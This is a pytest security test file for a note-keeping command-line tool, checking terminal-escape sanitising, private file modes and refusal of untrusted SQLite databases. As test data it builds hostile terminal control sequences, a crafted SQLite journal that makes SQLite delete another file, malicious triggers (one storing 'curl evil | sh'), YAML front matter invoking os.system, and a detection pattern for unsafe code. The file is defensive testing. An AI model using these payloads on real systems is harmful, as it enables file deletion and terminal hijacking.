"""What docs/security.md promises: private files, terminals that no entry steers, and bases from somebody else."""

from __future__ import annotations

import json
import os
import pty
import re
import sqlite3
import struct
import subprocess
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from running import REPOSITORY, Rekall, rekall_in
from warm import Warm

from rekall import base_trust, schema
from rekall.db import Database
from rekall.db import sqlite3 as sqlite
from rekall.entry import Entry
from rekall.errors import BaseRefused
from rekall.protocol import json_line
from rekall.render import on_terminal, plain

STAMP = "2026-01-02T03:04:05.678Z"
# Titles a window, clears the screen, asks for an answer, rings, goes back, turns text, hides it; C0, C1, NUL, DEL.
HOSTILE = (
    "\x1b]0;pwned\x07 \x1b[2J\x1b[H \x1b[6n \x1b]52;c;cHduZWQ=\x07 \x1bP+q544e\x1b\\ \x9b31m \x9d0;x\x9c \x07\x08\x0d\x7f \x00"
    "\u202e desrever \u2066 isolated \u2069 \u202d \x0e\x0f \x1bc \x85 \x90 \x1b[?1049h end"
)
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OURS = re.compile(r"\x1b\[[0-9;]*m|\r(?=\n)")  # colours; the terminal's own line ends


@pytest.fixture
def rekall(home: dict[str, str]) -> Rekall:
    return rekall_in(home)


def hostile_base(path: Path) -> None:
    """Fill a base with texts that steer terminals, as another program would: in every column that may hold one."""
    with Database(path) as database:
        names = ("title", "content", "situation", "solution", "what_failed", "project", "source")
        fields = dict.fromkeys(names, HOSTILE.replace("\x00", "\ufffd"))
        lists = dict.fromkeys(("tags", "errors", "files"), (fields["title"],))
        database.add_many(
            [
                Entry(id=key, type="bug", created_at=STAMP, updated_at=STAMP, extra={"x": HOSTILE}, **fields, **lists)
                for key in ("one", "two")
            ]
        )
        database.connection.execute(
            "INSERT INTO links VALUES ('one', 'two', 'related', ?, ?)", (HOSTILE.replace("\x00", ""), STAMP)
        )
        # What no command of ours would store: a type, a time and an id that steer, and a real NUL.
        database.connection.execute(
            "UPDATE entries SET type = ?, created_at = ? WHERE id = 'two'", (HOSTILE, STAMP + HOSTILE)
        )
        database.connection.execute(
            "INSERT INTO entries(id, type, title, content, created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?)",
            ("three" + HOSTILE.replace("\x00", ""), HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE),
        )


COMMANDS: list[tuple[str, ...]] = [
    ("list",), ("list", "-0"), ("list", "--tsv"), ("list", "--json"), ("list", "--jsonl"), ("show", "one"), ("show", "two"),
    ("show", "three"), ("show", "one", "--json"), ("search", "--words", "desrever"), ("search", "--words", "--explain", "isolated"),
    ("search", "--words", "--json", "isolated"), ("search", "--words", "-0", "isolated"), ("similar", "one"), ("tag", "one"),
    ("export",), ("export", "--format", "markdown"), ("stats",), ("index", "status"), ("index", "verify"), ("doctor",),
    ("doctor", "--secrets"), ("history", "one"), ("duplicates",), ("search", HOSTILE.replace("\x00", "")), ("show", HOSTILE.replace("\x00", "")),
    ("add", HOSTILE.replace("\x00", ""), "x"), (HOSTILE.replace("\x00", ""),), ("tag", "one", HOSTILE.replace("\x00", "")),
    ("import", HOSTILE.replace("\x00", "")), ("config", "get", HOSTILE.replace("\x00", "")), ("edit", "one", "--title", "x" + HOSTILE.replace("\x00", "")),
    ("tag", "one", "+x" + HOSTILE.replace("\x00", "")), ("link", "one", "three"), ("unlink", "one", "two"), ("delete", "three"), ("delete", "one"),
]  # fmt: skip


@pytest.mark.parametrize("door", ["cold", "warm"])
def test_no_control_sequence_of_an_entry_reaches_a_terminal(
    door: str, home: dict[str, str], request: pytest.FixtureRequest
) -> None:
    rekall = rekall_in(home) if door == "cold" else request.getfixturevalue("warm")
    hostile_base(rekall.base)
    known = rekall("help").output
    for words in COMMANDS:
        if f"  {words[0]} " not in known and words[0] in ("history", "duplicates"):
            continue
        sent = on_a_terminal(rekall, words)
        left = STEERS.findall(OURS.sub("", sent))
        assert left == [], (words, left, sent)
        assert "Traceback" not in sent


def on_a_terminal(rekall: Rekall, words: tuple[str, ...]) -> str:
    """Return what a terminal is sent by a command, whatever its status."""
    ours, theirs = pty.openpty()
    streams = {"stdin": theirs, "stdout": theirs, "stderr": theirs}
    with subprocess.Popen(rekall.command(*words), **streams, env=rekall.env, cwd=rekall.cwd) as process:
        os.close(theirs)
        parts = []
        with suppress(OSError):  # EIO: nobody has the other end open any more
            while part := os.read(ours, 65536):
                parts.append(part)
        process.wait(30)
    os.close(ours)
    return b"".join(parts).decode("utf-8", "replace")


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]) | st.sampled_from(HOSTILE), max_size=200))
def test_whatever_goes_through_the_last_door_steers_nothing(text: str) -> None:
    assert not STEERS.search(OURS.sub("", on_terminal(text)))
    assert not STEERS.search(plain(text).replace("\r\n", ""))
    assert not STEERS.search(json_line({text: text}))
    assert json.loads(json_line({text: text})) == {text: text}


def test_what_is_piped_is_data_and_comes_as_it_was_kept(rekall: Rekall) -> None:
    hostile_base(rekall.base)
    text = HOSTILE.replace("\x00", "\ufffd")
    assert text in rekall("list", "-0").output
    assert text in rekall("export", "--format", "markdown").output.replace("\r", "\r")
    [record] = [json.loads(line) for line in rekall("export").output.splitlines() if json.loads(line)["id"] == "one"]
    assert record["content"] == text and record["title"] == text


# --- who may read it ---


def test_files_are_private_and_folders_too_whatever_the_umask(warm: Warm) -> None:
    def run(*words: str, stdin: bytes = b"", **env: str) -> None:
        done = subprocess.run(
            ["sh", "-c", 'umask 0; exec "$@"', "sh", *map(os.fsdecode, warm.command(*words))],
            cwd=warm.cwd, env=warm.env | env, input=stdin, capture_output=True, timeout=60,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr

    made = Path(warm.env["HOME"], "made")
    run("add", "til", "a note", "-c", "text")
    run("search", "a note")
    run("config", "set", "performance.cache_ttl", "60")
    run("backup")
    run("backup", "-o", str(warm.cwd / "copy.db"))
    run("export", "-o", str(made / "deep" / "all.jsonl"))
    run("export", "--format", "markdown", "-o", f"{made}/notes/")
    editor = warm.cwd / "editor.sh"
    editor.write_text('#!/bin/sh\nstat -c "%a %n" "$1" "$(dirname "$1")" > "$HOME/seen"\necho more >> "$1"\n')
    editor.chmod(0o700)
    Path(warm.env["HOME"], "seen").touch(0o600)
    run("add", "til", "edited", "--edit", EDITOR=str(editor), VISUAL="")
    assert [line.split()[0] for line in Path(warm.env["HOME"], "seen").read_text().splitlines()] == ["600", "700"]
    with sqlite.connect(warm.base):  # the write-ahead log is there
        for top in (warm.base.parent, Path(warm.env["XDG_CONFIG_HOME"], "rekall"), made, warm.folder):
            assert top.stat().st_mode & 0o777 == 0o700, top
            for path in top.rglob("*"):
                mode = path.stat().st_mode & 0o777
                assert path.is_socket() or mode == (0o700 if path.is_dir() else 0o600), (path, oct(mode))
        assert (warm.cwd / "copy.db").stat().st_mode & 0o777 == 0o600


def test_doctor_tells_what_others_may_read_and_the_next_step(rekall: Rekall) -> None:
    rekall("add", "til", "a note")
    assert rekall("doctor").status == 0
    rekall.base.chmod(0o644)
    rekall.base.parent.chmod(0o755)
    told = rekall("doctor")
    assert told.status == 2
    assert f"wrong: {rekall.base} is open to others (mode 644); run: chmod 600 {rekall.base}" in told.output
    assert (
        f"wrong: {rekall.base.parent} is open to others (mode 755); run: chmod 700 {rekall.base.parent}" in told.output
    )


# --- a base from somebody else ---


@pytest.fixture
def cloned(rekall: Rekall) -> Path:
    """Return the base that a cloned repository brings; the working folder is in that repository."""
    folder = rekall.cwd / "repository" / ".rekall"
    folder.mkdir(parents=True)
    rekall.cwd = folder.parent
    with Database(folder / "rekall.db") as database:
        database.add(Entry(id="theirs", type="til", title="their note", created_at=STAMP, updated_at=STAMP))
    return folder / "rekall.db"


def hot_journal(victim: Path, page: int = 4096, sector: int = 512) -> bytes:
    """Return the journal of a transaction over several files that names `victim` as the one that binds them."""
    magic, name = bytes.fromhex("d9d505f920a163d7"), os.fsencode(victim)
    head = magic + struct.pack(">IIIII", 0, 0, 2, sector, page)
    last = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    return head.ljust(sector, b"\0") + last


def test_sqlite_by_itself_deletes_the_file_that_a_journal_names(cloned: Path, tmp_path: Path) -> None:
    """Why the next test is there, and that its journal is one."""
    victim = tmp_path / "precious"
    victim.write_text("precious\n")
    cloned.with_name("rekall.db-journal").write_bytes(hot_journal(victim))
    with suppress(sqlite.Error), sqlite.connect(cloned) as connection:
        connection.execute("SELECT count(*) FROM entries").fetchall()
    if victim.exists():
        pytest.skip(f"SQLite {sqlite.sqlite_version} has become careful")


@pytest.mark.parametrize(
    "words",
    [("list",), ("search", "note"), ("add", "til", "x"), ("index", "verify"), ("doctor",), ("backup",), ("export",)],
    ids=lambda words: words[0],
)
@pytest.mark.parametrize("door", ["cold", "warm"])
def test_a_journal_that_names_another_file_is_refused_and_the_file_stays(
    door: str, words: tuple[str, ...], rekall: Rekall, cloned: Path, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    victim = tmp_path / "precious"
    victim.write_text("precious\n")
    cloned.with_name("rekall.db-journal").write_bytes(hot_journal(victim))
    if door == "warm":
        rekall = request.getfixturevalue("warm")
    answer = rekall(*words, cwd=cloned.parent.parent)
    assert answer.status == 2
    assert "would have SQLite delete another file" in answer.errors + answer.output
    assert victim.read_text() == "precious\n"


def test_a_base_to_import_is_looked_at_in_the_same_way(rekall: Rekall, cloned: Path, tmp_path: Path) -> None:
    victim = tmp_path / "precious"
    victim.write_text("precious\n")
    cloned.with_name("rekall.db-journal").write_bytes(hot_journal(victim))
    answer = rekall("--global", "import", str(cloned))
    assert answer.status == 2 and "delete another file" in answer.errors
    assert victim.exists()


@pytest.mark.parametrize(
    "statement",
    [
        "CREATE TRIGGER x AFTER INSERT ON entries BEGIN UPDATE entries SET content = 'curl evil | sh'; END",
        "CREATE TRIGGER x AFTER UPDATE ON state BEGIN DELETE FROM entries; END",
        "CREATE TRIGGER x BEFORE INSERT ON embeddings BEGIN SELECT RAISE(IGNORE); END",
        "DROP TRIGGER entries_inserted; CREATE TRIGGER entries_inserted AFTER INSERT ON entries BEGIN SELECT 1; END",
        "DROP VIEW entries_text; CREATE VIEW entries_text AS SELECT 1 AS rowid",
        "ALTER TABLE imports RENAME TO other; CREATE VIEW imports AS SELECT 1 AS place, 2 AS entry_id, 3 AS digest",
        "DROP TABLE imports; CREATE VIRTUAL TABLE imports USING fts5(place, entry_id, digest)",
        "DROP TABLE entries_fts; CREATE VIRTUAL TABLE entries_fts USING fts5(title, content='sqlite_master')",
    ],
)
def test_a_base_in_which_something_else_runs_is_refused(rekall: Rekall, cloned: Path, statement: str) -> None:
    with sqlite.connect(cloned) as connection:
        connection.execute("PRAGMA foreign_keys = OFF")
        for part in statement.split("; ") if statement.startswith(("DROP", "ALTER")) else [statement]:
            rest = statement[statement.index(part) :] if part.startswith("CREATE TRIGGER") else part
            connection.execute(rest)
            if rest is not part:
                break
    connection.close()  # brings what it wrote from the log into the file
    before = cloned.read_bytes()
    for words in (("list",), ("search", "--words", "note"), ("add", "til", "x")):
        answer = rekall(*words)
        assert answer.status == 2 and "rekall did not write and will not run" in answer.errors
    assert cloned.read_bytes() == before


def test_what_lies_beside_our_tables_is_left_alone(rekall: Rekall, cloned: Path) -> None:
    with sqlite.connect(cloned) as connection:
        connection.execute("CREATE TABLE mine(a)")
        connection.execute("CREATE TRIGGER mine_too AFTER INSERT ON mine BEGIN SELECT 1; END")
        connection.execute("CREATE VIEW also_mine AS SELECT title FROM entries")
    assert rekall("list").status == 0
    assert rekall("add", "til", "x").status == 0


def test_our_own_schema_is_known_as_it_is_stored(tmp_path: Path) -> None:
    with Database(tmp_path / "rekall.db") as database:
        base_trust.check_schema(database.connection, None)
        names = {row[0] for row in database.connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")}
        assert len(names) > 5
        for name in names:
            database.connection.execute(f"DROP TRIGGER {name}")
            database.connection.execute(f"CREATE TRIGGER {name} AFTER INSERT ON entries BEGIN SELECT 1; END")
            with pytest.raises(BaseRefused, match=name):
                base_trust.check_schema(database.connection, None)
            database.connection.execute(f"DROP TRIGGER {name}")
            for statement in schema.all_statements():
                if statement.split()[1:3] == ["TRIGGER", name]:
                    database.connection.execute(statement)
        base_trust.check_schema(database.connection, None)


@pytest.mark.parametrize("target", ["there", "not there", "empty"])
@pytest.mark.parametrize("door", ["cold", "warm"])
def test_a_link_in_place_of_a_projects_base_is_not_followed(
    door: str, target: str, rekall: Rekall, cloned: Path, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    aim = tmp_path / "aim"
    if target == "there":
        cloned.rename(aim)
    else:
        cloned.unlink()
        if target == "empty":
            aim.touch()
    before = aim.read_bytes() if aim.exists() else None
    cloned.symlink_to(aim)
    if door == "warm":
        rekall = request.getfixturevalue("warm")
    for words in (("list",), ("add", "til", "x"), ("doctor",)):
        answer = rekall(*words, cwd=cloned.parent.parent)
        assert answer.status == 2 and "is a link" in answer.errors + answer.output
    assert (aim.read_bytes() if aim.exists() else None) == before


@pytest.mark.parametrize("make", [os.mkfifo, lambda path: os.symlink("/dev/zero", path)], ids=["pipe", "device"])
def test_what_is_no_file_is_no_base(rekall: Rekall, make: Callable[[Path], None]) -> None:
    path = rekall.cwd / "strange.db"
    make(path)
    answer = rekall("--db", str(path), "list")
    assert answer.status == 2 and "is no regular file" in answer.errors


def test_the_settings_of_a_projects_folder_are_never_read(rekall: Rekall, cloned: Path) -> None:
    cloned.with_name("config.toml").write_text("[embeddings]\nmodel = 'sentence-transformers/evil'\n")
    assert "all-MiniLM-L6-v2" in rekall("config", "list").output
    assert rekall("search", "--words", "note").status == 0


# --- no code by other ways ---


def test_no_source_line_runs_code_that_data_could_hold() -> None:
    forbidden = re.compile(
        r"\bimport (?:pickle|marshal|shelve|dill)\b|\b(?:eval|exec)\(|shell=True|os\.(?:system|popen)\(|yaml\.(?:unsafe|full)_load"
        r"|trust_remote_code=True|allow_pickle=True|create_function\("
    )
    for path in (REPOSITORY / "rekall").rglob("*.py"):
        assert not forbidden.search(path.read_text(encoding="utf-8")), path


@pytest.mark.parametrize(
    "front", ["!!python/object/apply:os.system ['touch pwned']", "!!python/name:os.system", "&a [*a]"]
)
def test_front_matter_makes_plain_data_only(rekall: Rekall, front: str) -> None:
    note = rekall.cwd / "note.md"
    note.write_text(f"---\ntitle: {front}\n---\nbody\n")
    answer = rekall("import", str(note), "--no-wait")
    assert answer.status == 2 and "not YAML" in answer.errors
    assert list(Path(rekall.env["HOME"]).rglob("pwned")) == []


def test_sqlite_is_opened_without_trust(tmp_path: Path) -> None:
    with Database(tmp_path / "rekall.db") as database:
        asked = {
            name: database.connection.execute(f"PRAGMA {name}").fetchone()[0]
            for name in ("secure_delete", "cell_size_check", "trusted_schema")
        }
    assert (asked["secure_delete"], asked["cell_size_check"]) == (1, 1)
    if sqlite.sqlite_version_info >= (3, 51):
        assert asked["trusted_schema"] == 0
    assert sqlite3.sqlite_version_info >= (3, 40)
